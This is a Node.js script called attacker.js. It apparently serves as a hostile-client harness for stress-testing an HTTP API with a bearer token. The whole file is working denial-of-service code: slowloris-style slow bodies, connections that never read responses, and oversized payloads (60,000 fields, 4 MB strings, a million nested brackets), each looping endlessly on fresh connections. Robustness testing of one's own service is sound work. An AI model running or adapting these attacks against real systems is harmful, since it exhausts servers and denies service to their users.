// A hostile client: with one token it asks for as much as it can, in every way that takes little of itself, until it is ended.
// node attacker.js URL TOKEN [ATTACK…]
import { connect } from 'node:net';

const [url, token] = process.argv.slice(2);
const { hostname, port } = new URL(url);

const head = (operation, headers) =>
  [
    `POST /v1/operations/${operation} HTTP/1.1`,
    ...['host: localhost', `authorization: Bearer ${token}`, 'content-type: application/json', ...headers],
  ].join('\r\n') + '\r\n\r\n';
const whole = (operation, body, headers = []) =>
  head(operation, [`content-length: ${Buffer.byteLength(body)}`, ...headers]) + body;

/** Sends it over and over, each time over a connection of its own. @param takes does it read the answer? */
function again(bytes, takes) {
  const socket = connect(Number(port), hostname, () => socket.write(bytes));
  socket.on('error', () => undefined);
  if (takes) {
    socket.once('data', () => {
      socket.on('data', () => undefined);
      setTimeout(() => socket.destroy(), 20);
    });
  } else socket.pause();
  socket.on('close', () => setTimeout(() => again(bytes, takes), 5));
}

const everything = '{"tenant":"north","input":{}}';
const fields = (count) =>
  `{"tenant":"north","input":{${Array.from({ length: count }, (_, at) => `"f${at}":1`).join(',')}}}`;
/** What it does at once, and how often each. */
const attacks = {
  'slow-bodies': [40, () => again(`${head('tenant.list', ['content-length: 100000'])}{"input"`, false)],
  'stalled-csv': [6, () => again(whole('account.list', everything, ['accept: text/csv']), false)],
  'stalled-json': [6, () => again(whole('account.list', everything), false)],
  'stalled-events': [
    6,
    () => again(whole('account.list', everything, ['accept: application/x-ndjson']), false),
  ],
  'many-fields': [1, () => again(whole('account.list', fields(60_000)), true)],
  'some-fields': [1, () => again(whole('account.list', fields(1_900)), true)],
  'long-text': [
    1,
    () => again(whole('plan.show', `{"tenant":"north","input":{"learner":"${'x'.repeat(60_000)}"}}`), true),
  ],
  'longer-text': [
    1,
    () =>
      again(whole('plan.show', `{"tenant":"north","input":{"learner":"${'x'.repeat(4_000_000)}"}}`), true),
  ],
  nesting: [1, () => again(whole('account.list', '['.repeat(1_000_000)), true)],
  lists: [1, () => again(whole('account.list', everything), true)],
};
const chosen = process.argv.slice(4);
for (const [name, [times, attack]] of Object.entries(attacks))
  if (chosen.length === 0 || chosen.includes(name)) for (let at = 0; at < times; at += 1) attack();
// Connections that are not read from would not keep the process.
setInterval(() => undefined, 1_000);
process.stdout.write('at it\n');
